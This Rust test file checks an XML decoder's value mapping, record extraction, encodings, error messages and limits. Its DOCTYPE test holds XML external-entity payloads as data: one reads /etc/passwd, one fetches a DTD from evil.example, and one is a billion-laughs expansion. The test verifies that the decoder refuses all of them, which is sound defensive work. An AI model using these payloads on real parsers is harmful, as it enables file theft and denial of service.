//! XML as business APIs send it, and as nobody should.

#![allow(clippy::unwrap_used)]

mod support;

use pomost_expression::{Value, write};
use pomost_format::{BodyFormat, DecodeLimits, FormatSyntax, XmlOptions, decode};

use support::{outcome, xml};

fn rows(format: &BodyFormat, body: &str) -> Vec<String> {
    let outcome = outcome(format, None, [body.as_bytes()]);
    assert_eq!(outcome.error, None, "{body}");
    outcome.rows
}

fn error(format: &BodyFormat, body: &str) -> String {
    outcome(format, None, [body.as_bytes()])
        .error
        .unwrap_or_else(|| panic!("{body}"))
        .to_string()
}

/// The value of the element `a` that a body consists of.
fn value(body: &str) -> String {
    let (rows, _) = decode(&xml("a"), None, body.as_bytes()).unwrap();
    write(&rows[0]).unwrap()
}

#[test]
fn an_element_is_text_or_an_object_of_what_it_has() {
    for (body, expected) in [
        ("<a/>", r#""""#),
        ("<a></a>", r#""""#),
        ("<a> \n </a>", r#""""#),
        ("<a> b \r\n c\r</a>", r#"" b \n c\n""#),
        (
            "<a>&lt;&#322;&#x142;&amp;amp;<![CDATA[<&amp;>]]></a>",
            r#""<łł&amp;<&amp;>""#,
        ),
        ("<a>&#32;</a>", r#"" ""#),
        ("<a><![CDATA[ ]]></a>", r#"" ""#),
        ("<a>b<!-- c -->d<?e f?>g</a>", r#""bdg""#),
        (
            "<a x='1' y=\"&quot;\n\t&#10;'\"/>",
            r#"{"@x":"1","@y":"\"  \n'"}"#,
        ),
        ("<a x='1'>b</a>", r##"{"@x":"1","#text":"b"}"##),
        (
            "<a><b>1</b><c/><b>2</b><b>3</b></a>",
            r#"{"b":["1","2","3"],"c":""}"#,
        ),
        ("<a>\n  <b><c>1</c></b>\n</a>", r#"{"b":{"c":"1"}}"#),
        ("<a>x<b/> y </a>", r##"{"b":"","#text":"x y "}"##),
        ("<a><a>1</a></a>", r#"{"a":"1"}"#),
    ] {
        assert_eq!(value(body), expected, "{body}");
    }
}

#[test]
fn records_are_rows_and_what_stands_around_them_is_the_rest() {
    let body = "<orders total='2'><next>/2</next><order>1</order><x><order>3</order></x><order>2</order></orders>";
    let read = outcome(&xml("/orders/order"), None, [body.as_bytes()]);
    assert_eq!(read.rows, [r#""1""#, r#""2""#]);
    assert_eq!(
        read.rest,
        r#"{"orders":{"@total":"2","next":"/2","x":{"order":"3"}}}"#
    );
    assert_eq!(rows(&xml("order"), body), [r#""1""#, r#""3""#, r#""2""#]);
    assert_eq!(rows(&xml("x/order"), body), [r#""3""#]);
    assert_eq!(
        rows(&xml("/orders/order"), "<orders/>"),
        Vec::<String>::new()
    );
    let whole = outcome(&xml(""), None, ["<a><b>1</b></a>".as_bytes()]);
    assert_eq!(
        (&whole.rows[0], &whole.rest),
        (&r#"{"a":{"b":"1"}}"#.to_owned(), &whole.rows[0])
    );
}

#[test]
fn an_answer_that_is_another_document_is_not_an_empty_list() {
    assert_eq!(
        error(&xml("/orders/order"), "<error><code>5</code></error>"),
        "XML, row 1, byte 0: expected the root element 'orders'; found another"
    );
}

#[test]
fn prefixes_are_dropped_or_kept() {
    let body =
        "<s:orders xmlns:s='urn:x' xmlns='urn:y'><s:order s:id='1'><s:n/></s:order></s:orders>";
    assert_eq!(rows(&xml("/orders/order"), body), [r#"{"@id":"1","n":""}"#]);
    let options = XmlOptions {
        record: None,
        prefixes: true,
        ..XmlOptions::default()
    };
    let kept =
        r#"{"s:orders":{"@xmlns:s":"urn:x","@xmlns":"urn:y","s:order":{"@s:id":"1","s:n":""}}}"#;
    assert_eq!(rows(&FormatSyntax::Xml(options).into(), body), [kept]);
    assert!(error(&xml(""), "<a x:id='1' y:id='2'/>").contains("an attribute occurs twice"));
}

#[test]
fn elements_that_are_lists_are_lists_however_often_they_occur() {
    let list = ["item", "/orders/order/tags/tag"]
        .map(|path| path.parse().unwrap())
        .into();
    let options = XmlOptions {
        record: Some("/orders/order".parse().unwrap()),
        list,
        prefixes: false,
    };
    let body = "<orders><order><items><item/></items><tags><tag>1</tag></tags><tag>2</tag></order>\
        <order><items><item>1</item><item>2</item></items></order><order><items/></order></orders>";
    assert_eq!(
        rows(&FormatSyntax::Xml(options).into(), body),
        [
            r#"{"items":{"item":[""]},"tags":{"tag":["1"]},"tag":"2"}"#,
            r#"{"items":{"item":["1","2"]}}"#,
            r#"{"items":""}"#
        ]
    );
}

#[test]
fn the_declaration_says_what_the_characters_are() {
    let body = b"<?xml version='1.0' encoding='windows-1250'?><a>\xbf\xf3\xb3w</a>";
    let (rows, _) = decode(&xml("a"), None, body).unwrap();
    assert_eq!(rows, [Value::from("żółw".to_owned())]);
    // Written to memory in UTF-16, sent in UTF-8, and never corrected.
    assert_eq!(
        value("<?xml version='1.0' encoding='utf-16'?><a>ż</a>"),
        r#""ż""#
    );
    assert!(
        error(&xml("a"), "<?xml version='1.0' encoding='klingon'?><a/>")
            .contains("that nobody knows")
    );
    assert!(
        error(&xml("a"), "<?xml version='1.0' encoding='utf-16'?><a>")
            .contains("the end tag of the element that begins at byte 39")
    );
}

#[test]
fn a_doctype_is_passed_over_and_never_followed() {
    let body =
        "<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd\"><a>1</a>";
    assert_eq!(value(body), r#""1""#);
    let refused = "a DOCTYPE that declares entities or anything else is refused";
    for declared in [
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
        "<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;",
        "<!ENTITY l \"lol\"><!ENTITY l2 \"&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;\">",
        "<!ATTLIST a x CDATA 'y'>",
        "",
    ] {
        let body = format!("<?xml version='1.0'?><!DOCTYPE a [{declared}]><a>&x;&l2;</a>");
        assert_eq!(
            error(&xml("a"), &body),
            format!("XML, row 1, byte 21: {refused}"),
            "{declared}"
        );
    }
    for reference in ["&x;", "&nbsp;", "&Amp;"] {
        assert!(
            error(&xml("a"), &format!("<a>{reference}</a>")).contains("an entity other than"),
            "{reference}"
        );
        assert!(
            error(&xml("a"), &format!("<a b='{reference}'/>")).contains("an entity other than"),
            "{reference}"
        );
    }
}

#[test]
fn what_is_not_well_formed_is_an_error_with_its_place_and_without_its_values() {
    for (body, expected) in [
        ("", "byte 0: the body ends here; expected an XML document"),
        (
            " \n",
            "byte 0: the body ends here; expected an XML document",
        ),
        ("{\"a\":1}", "byte 0: text outside of the root element"),
        (
            "<a>secret</b>",
            "byte 9: expected the end tag of the element that begins at byte 0",
        ),
        (
            "<a><b></a></b>",
            "byte 6: expected the end tag of the element that begins at byte 3",
        ),
        ("</a>", "byte 0: an end tag without its start tag"),
        (
            "<a/><b/>",
            "byte 4: a second element behind the root element",
        ),
        ("<a/>secret", "byte 4: text outside of the root element"),
        ("<a/>secret<b/>", "byte 4: text outside of the root element"),
        (
            "<a/><![CDATA[x]]>",
            "byte 4: text outside of the root element",
        ),
        ("<1a/>", "byte 0: expected the name of an element behind <"),
        ("< a/>", "byte 0: expected the name of an element behind <"),
        ("<>", "byte 0: expected the name of an element behind <"),
        (
            "<a><!secret></a>",
            "byte 3: expected a comment, CDATA or DOCTYPE behind <!",
        ),
        (
            "<a b=secret/>",
            "byte 0: expected attributes as name=\"value\"",
        ),
        ("<a b/>", "byte 0: expected attributes as name=\"value\""),
        ("<a 1='x'/>", "byte 0: expected the name of an attribute"),
        (
            "<a b='x' b='y'/>",
            "byte 0: an attribute occurs twice in a tag",
        ),
        (
            "<a>secret & more</a>",
            "byte 3: an & that begins no reference; it should be &amp;",
        ),
        (
            "<a>&#0;</a>",
            "byte 3: a reference to a character that XML does not have",
        ),
        (
            "<a>&#xD800;</a>",
            "byte 3: a reference to a character that XML does not have",
        ),
        (
            "<a b='&#99999999999;'/>",
            "byte 0: a reference to a character that XML does not have",
        ),
        (
            "<a>secret",
            "byte 3: the body ends here; expected the end tag of the element that begins at byte 0",
        ),
        (
            "<a",
            "byte 0: the body ends here; expected the end of a tag",
        ),
        (
            "<a/><!-- ",
            "byte 4: the body ends here; expected the end of a tag",
        ),
    ] {
        assert_eq!(
            error(&xml(""), body),
            format!("XML, row 1, {expected}"),
            "{body}"
        );
    }
}

#[test]
fn what_is_too_deep_or_too_long_is_refused() {
    let nested = |depth: usize| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    assert_eq!(rows(&xml(""), &nested(128)).len(), 1);
    assert!(
        error(&xml(""), &nested(129)).ends_with("byte 384: elements nested deeper than 128 levels")
    );
    assert!(
        error(&xml(""), &"<a>".repeat(100_000)).ends_with("elements nested deeper than 128 levels")
    );
    let limits = DecodeLimits {
        row: 30,
        document: 40,
    };
    let format = BodyFormat {
        limits,
        ..xml("/o/r")
    };
    let long = "x".repeat(31);
    for (body, expected) in [
        (
            format!(
                "<o><r>1</r><r><a>{}</a><b>{}</b></r></o>",
                &long[..20],
                &long[..20]
            ),
            "a record is longer than 30",
        ),
        (
            format!("<o><r>1</r><r>{long}</r></o>"),
            "a tag, a comment or a text is longer than 30",
        ),
        (
            format!("<o><r>1</r><!--{long}--></o>"),
            "a tag, a comment or a text is longer than 30",
        ),
        (
            format!(
                "<o><r>1</r><x>{}</x><x>{}</x></o>",
                &long[..20],
                &long[..20]
            ),
            "what stands around the records",
        ),
        (
            format!("<o><r>1</r>{}</o>", "<!-- --> ".repeat(50)),
            "what stands around the records",
        ),
    ] {
        let error = error(&format, &body);
        assert!(
            error.starts_with("XML, row 2") && error.contains(expected),
            "{error}"
        );
    }
    assert_eq!(
        rows(
            &format,
            &format!("<o>{}</o>", "\n  <r>12345678901234567890</r>".repeat(100))
        )
        .len(),
        100
    );
}
